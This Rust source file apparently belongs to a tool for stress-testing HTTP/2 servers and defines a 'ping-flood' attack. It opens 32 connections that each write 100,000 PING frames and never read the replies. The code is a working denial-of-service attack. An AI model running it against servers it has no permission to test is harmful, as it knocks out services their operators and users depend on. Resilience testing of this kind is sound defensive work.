//! Sends HTTP/2 pings, and reads no answer.

use super::{Attack, WITH_HTTP2};
use crate::{aim::Aim, frames};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "ping-flood",
    about: "Sends HTTP/2 pings, and reads no answer",
    targets: WITH_HTTP2,
    attackers: 32,
    leaves_answers: true,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect_http2(&[]).await?;
    let many = frames::ping().repeat(1000);
    for _ in 0..100 {
        stream.write_all(&many).await?;
    }
    aim.ignore(stream).await;
    Ok(())
}
